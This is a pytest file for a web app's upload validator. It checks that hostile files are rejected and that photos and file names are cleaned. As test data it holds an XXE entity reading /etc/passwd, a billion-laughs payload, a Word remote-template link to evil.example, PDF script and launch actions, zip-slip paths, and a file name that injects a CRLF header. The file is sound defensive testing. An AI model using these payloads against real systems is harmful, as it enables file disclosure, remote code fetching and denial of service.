"""F-37: files made to harm are refused or neutralised, and no person fills the store."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from flask import Flask
from PIL import Image

from app.core.attachments import LARGEST, QUOTA, NotAccepted, OverQuota, UnknownType, accepted, attach, clean_name
from app.core.db import writing
from app.core.file_types import ACCEPTED
from app.core.pictures import KEPT_SIDE
from app.core.scanner import register_scanner, scanned
from tests.core.test_attachments import NOW

DOCX = "word/document.xml"
PLAIN = b"<w:document xmlns:w='w'>text</w:document>"
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'


def packed(parts: dict[str, bytes], *, main: str = DOCX) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {main: PLAIN, **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 20), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **options)
    return out.getvalue()


def with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SECRET-CAMERA"
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x0112] = 6  # lies on its side
    return picture("JPEG", exif=exif)


def encrypted() -> bytes:
    content = bytearray(packed({}))
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "svg": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "svg named png": ("a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "html": ("a.html", lambda: b"<!doctype html><script>alert(1)</script>"),
    "html named pdf": ("a.pdf", lambda: b"<html>%PDF-1.4"),
    "program": ("a.exe", lambda: b"MZ\x90"),
    "program named pdf": ("a.pdf", lambda: b"MZ\x90"),
    "pdf named html": ("a.html", lambda: b"%PDF-1.7"),
    "pdf named docx": ("a.docx", lambda: b"%PDF-1.7"),
    "png named jpg": ("a.jpg", lambda: picture("PNG")),
    "script in pdf": ("a.pdf", lambda: b"%PDF-1.7 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>"),
    "launch in pdf": ("a.pdf", lambda: b"%PDF-1.7 << /Type /Action /S /Launch /F (cmd.exe) >>"),
    "gif": ("a.gif", lambda: picture("GIF")),
    "empty": ("a.pdf", lambda: b""),
    "too large": ("a.pdf", lambda: b"%PDF-" + bytes(LARGEST)),
    "plain zip": ("a.docx", lambda: packed({}, main="a.txt")),
    "docm": ("a.docx", lambda: packed({"word/vbaProject.bin": b"x"})),
    "docm by its type": ("a.docx", lambda: packed({"[Content_Types].xml": MACRO_TYPE})),
    "xlsm": ("a.xlsx", lambda: packed({"xl/vbaProject.bin": b"x"}, main="xl/workbook.xml")),
    "xlm": ("a.xlsx", lambda: packed({"xl/macrosheets/sheet1.xml": PLAIN}, main="xl/workbook.xml")),
    "activex": ("a.docx", lambda: packed({"word/activeX/activeX1.bin": b"x"})),
    "odt macro": (
        "a.odt",
        lambda: packed({"Basic/Standard/Module1.xml": PLAIN}, main="mimetype").replace(PLAIN, PLAIN),
    ),
    "remote template": ("a.docx", lambda: packed({"word/_rels/settings.xml.rels": REMOTE})),
    "program inside": ("a.docx", lambda: packed({"word/embeddings/a.exe": b"MZ"})),
    "archive inside": ("a.docx", lambda: packed({"word/embeddings/a.zip": packed({})})),
    "leaves its folder": ("a.docx", lambda: packed({"../../etc/cron.d/x": b"x"})),
    "leaves by backslash": ("a.docx", lambda: packed({"..\\..\\x": b"x"})),
    "absolute": ("a.docx", lambda: packed({"/etc/passwd": b"x"})),
    "outer entity": ("a.docx", lambda: packed({DOCX: ENTITY})),
    "outer entity in utf-16": ("a.docx", lambda: packed({DOCX: ENTITY.decode().encode("utf-16")})),
    "outer entity elsewhere": ("a.docx", lambda: packed({"docProps/core.xml": ENTITY})),
    "outer entity after a comment": ("a.docx", lambda: packed({DOCX: b"<!--" + b"x" * 100_000 + b"-->" + LAUGHS})),
    "many laughs": ("a.xlsx", lambda: packed({"xl/workbook.xml": LAUGHS}, main="xl/workbook.xml")),
    "no xml": ("a.docx", lambda: packed({DOCX: b"\x00\x01\x02"})),
    "bomb of 1:1000": ("a.docx", lambda: packed({"word/media/a.xml": b"<a>" + bytes(50_000_000)})),
    "bomb of many parts": ("a.docx", lambda: packed({f"{number}.txt": b"" for number in range(5_001)})),
    "encrypted": ("a.docx", encrypted),
    "cut": ("a.docx", lambda: packed({})[:-30]),
    "png that is none": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + b"x" * 100),
    "jpg that is none": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + b"x" * 100),
    "10,001 pixels": ("a.png", lambda: picture("PNG", (10_001, 1))),
    "picture bomb": ("a.png", lambda: picture("PNG", (9_000, 9_000))),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_harmful_file_is_refused(case: str) -> None:
    name, made = REFUSED[case]
    with pytest.raises(NotAccepted):
        accepted(made(), name)


def test_a_document_without_harm_is_kept_as_it_is() -> None:
    for name, content in {
        "ok.docx": packed({}),
        "ok.XLSX": packed({}, main="xl/workbook.xml"),
        "a.pdf": b"%PDF-1.7",
    }.items():
        assert accepted(content, name).content == content


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_picture_is_drawn_anew_and_what_hid_behind_it_is_gone(kind: str) -> None:
    content = picture(kind) + b"<script>alert(1)</script>PK\x03\x04"
    file = accepted(content, f"a.{kind.lower()}")
    assert b"script" not in file.content
    with Image.open(io.BytesIO(file.content)) as again:
        assert (again.format, again.size) == (kind, (40, 20))


def test_a_photo_keeps_neither_place_nor_camera_and_stands_upright() -> None:
    file = accepted(with_place(), "photo.JPG")
    assert b"SECRET-CAMERA" not in file.content
    with Image.open(io.BytesIO(file.content)) as again:
        assert not dict(again.getexif())
        assert again.size == (20, 40)


def test_a_large_photo_becomes_one_that_a_page_can_carry() -> None:
    with Image.open(io.BytesIO(accepted(picture("JPEG", (9_000, 600)), "a.jpg").content)) as again:
        assert max(again.size) <= KEPT_SIDE


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\a\\b.pdf", "b.pdf"),
        ("gpj.\u202efdp.pdf", "gpj.fdp.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a'b Set-Cookie: x.pdf"),
        ("تقرير", "تقرير.pdf"),
        ("x\x00.pdf", "x.pdf"),
        ("", "file.pdf"),
        ("." * 300, "file.pdf"),
    ],
)
def test_a_name_is_only_a_name(given: str, kept: str) -> None:
    assert accepted(b"%PDF-1.7", given).file_name == kept
    assert len(clean_name("ä" * 5_000)) <= 200


@pytest.mark.both_engines
def test_a_person_may_add_fifty_megabytes_and_others_still_theirs(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    assert QUOTA == 50 * 1024 * 1024
    monkeypatch.setattr("app.core.attachments.QUOTA", 1_000)

    def add(number: int, person: int) -> None:
        with app.app_context(), writing() as session:
            attach(
                session, b"%PDF-1.7" + bytes([number]) * 392, file_name="a.pdf", object_type="draft",
                object_id=number, person_id=person, now=NOW,
            )  # fmt: skip

    add(1, 1)
    add(2, 1)
    with pytest.raises(OverQuota):
        add(3, 1)
    add(4, 2)


def test_a_scanner_is_asked_and_one_that_is_dead_stops_nobody(app: Flask) -> None:
    def dead(_content: bytes) -> bool:
        raise ConnectionRefusedError

    with app.app_context():
        assert scanned(b"x") is None
        register_scanner(app, dead)
        assert scanned(b"x") is None
        register_scanner(app, lambda content: content != b"virus")
        assert scanned(b"x") is not None
        with pytest.raises(NotAccepted):
            scanned(b"virus")


def test_what_is_accepted_is_what_the_page_says() -> None:
    assert set(ACCEPTED) == {"pdf", "docx", "xlsx", "pptx", "odt", "ods", "png", "jpg"}
    with pytest.raises(UnknownType):
        accepted(b"a;b\n1;2\n", "a.csv")
